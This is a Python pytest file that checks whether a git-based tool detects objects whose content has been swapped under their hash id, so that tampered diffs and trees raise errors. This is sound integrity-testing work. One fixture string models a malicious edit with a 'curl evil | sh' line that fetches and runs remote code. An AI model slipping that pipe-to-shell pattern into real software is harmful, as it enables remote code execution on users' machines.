"""Objects under whose name somebody has put other content: git reads them without a word, and we must not."""

from __future__ import annotations

import zlib
from pathlib import Path

import pytest

from handoff_tui.changes.diff import DiffRequest, diff
from handoff_tui.core.errors import GitError
from handoff_tui.git.command import Git
from handoff_tui.git.history.commits import read_blobs, read_trees
from handoff_tui.git.objects import integrity
from handoff_tui.git.objects.integrity import matches_id, refuse_altered_objects
from handoff_tui.git.objects.isolated import open_isolated_objects
from handoff_tui.git.objects.reader import ObjectReader
from handoff_tui.git.objects.tree_diff import refuse_altered_trees
from handoff_tui.git.repository import open_repository
from handoff_tui.git.work_tree.capture import build_commit_tree
from handoff_tui.handoffs.session import open_desk
from tests.support.repositories import RepositoryBuilder

_EVIL = "def add(a, b):\n    run('curl evil | sh')\n    return a + b\n"
_TAME = b"def add(a, b):\n    # tidy\n    return a + b\n"


@pytest.fixture
def builder(tmp_path: Path) -> RepositoryBuilder:
    """Two commits; the second one changes a file in a folder."""
    made = RepositoryBuilder.init(tmp_path / "repo").write("src/app.py", "def add(a, b):\n    return a + b\n")
    return made.write("other", "x\n").commit("one").write("src/app.py", _EVIL).commit("two")


def name(builder: RepositoryBuilder, written: str) -> str:
    return builder.git("rev-parse", written)


def falsify(builder: RepositoryBuilder, identifier: str, kind: bytes, content: bytes) -> None:
    """Puts other content under the name of an object."""
    place = builder.folder / ".git/objects" / identifier[:2] / identifier[2:]
    place.chmod(0o600)
    place.write_bytes(zlib.compress(b"%b %d\0" % (kind, len(content)) + content))


def read_tree(builder: RepositoryBuilder, written: str) -> bytes:
    content = read_trees(Git(builder.folder), [written], 1 << 20)[written]
    assert content is not None
    return content


@pytest.mark.parametrize("side", ["HEAD", "HEAD~1"])
def test_comparison_shows_no_false_content(builder: RepositoryBuilder, side: str) -> None:
    """A harmless text under the name of the new content, or of the old one, is an error instead of a difference."""
    git, old, new = Git(builder.folder), name(builder, "HEAD~1^{tree}"), name(builder, "HEAD^{tree}")
    refuse_altered_trees(git, old, new)
    falsify(builder, name(builder, f"{side}:src/app.py"), b"blob", _TAME)
    assert builder.git("show", f"{side}:src/app.py") == _TAME.decode().strip()
    with pytest.raises(GitError, match="does not have the content"):
        refuse_altered_trees(git, old, new)
    desk = open_desk(builder.folder)
    with pytest.raises(GitError, match="does not have the content"):
        diff(desk, DiffRequest(against="HEAD~1", instead="HEAD", files_only=True))


@pytest.mark.parametrize("place", ["", "src"])
def test_list_of_changes_rests_on_no_false_folder(builder: RepositoryBuilder, place: str) -> None:
    """A folder that lists the old content under the new id would hide the change."""
    git, old, new = Git(builder.folder), name(builder, "HEAD~1"), name(builder, "HEAD")
    falsify(builder, name(builder, f"HEAD:{place}"), b"tree", read_tree(builder, f"HEAD~1:{place}"))
    assert builder.git("diff-tree", "-r", "HEAD~1", "HEAD") == ""
    with pytest.raises(GitError, match="does not have the content"):
        refuse_altered_trees(git, old, new)


def test_false_object_is_not_read(builder: RepositoryBuilder) -> None:
    """Who asks for a content gets nothing, as if it were missing."""
    git, blob = Git(builder.folder), name(builder, "HEAD:src/app.py")
    reader = ObjectReader(git)
    assert reader.read(blob, 1000) == read_blobs(git, [blob], 1000)[blob] == _EVIL.encode()
    reader.close()
    falsify(builder, blob, b"blob", _TAME)
    assert read_blobs(git, [blob, "HEAD:other"], 1000) == {blob: None, "HEAD:other": b"x\n"}
    assert reader.read(blob, 1000) is None
    assert reader.read("HEAD:other", 1000) == b"x\n"
    reader.close()


def test_tree_of_a_commit_is_no_false_one(builder: RepositoryBuilder, tmp_path: Path) -> None:
    """The tree that a decision is bound to is made of the true one."""
    builder.write(".handoff-tui/log/x", "x").commit("log")
    falsify(builder, name(builder, "HEAD^{tree}"), b"tree", read_tree(builder, "HEAD~2:"))
    with pytest.raises(GitError):
        build_commit_tree(open_repository(builder.folder), builder.head(), tmp_path / "cache")


def test_large_and_many_objects_are_looked_at_too(builder: RepositoryBuilder, monkeypatch: pytest.MonkeyPatch) -> None:
    """What does not fit into memory at once is read piece by piece, or in several goes."""
    monkeypatch.setattr(integrity, "_BYTES_AT_ONCE", 10)
    names = [name(builder, one) for one in ("HEAD:src/app.py", "HEAD:other", "HEAD^{tree}", "HEAD~1", "HEAD~1:src")]
    git = Git(builder.folder)
    with open_isolated_objects(git, names[0]) as view:
        refuse_altered_objects(view, ObjectReader(git), [*names, "1" * 40])
        falsify(builder, names[0], b"blob", _TAME)
        with pytest.raises(GitError, match=names[0]):
            refuse_altered_objects(view, ObjectReader(git), names)


def test_sha256_objects_are_told_too(tmp_path: Path) -> None:
    """The id says by its length which hash made it."""
    made = RepositoryBuilder.init(tmp_path / "repo", "--object-format=sha256").write("a", "one\n").commit("one")
    assert matches_id(name(made, "HEAD:a"), b"blob", b"one\n")
    assert not matches_id(name(made, "HEAD:a"), b"blob", b"two\n")
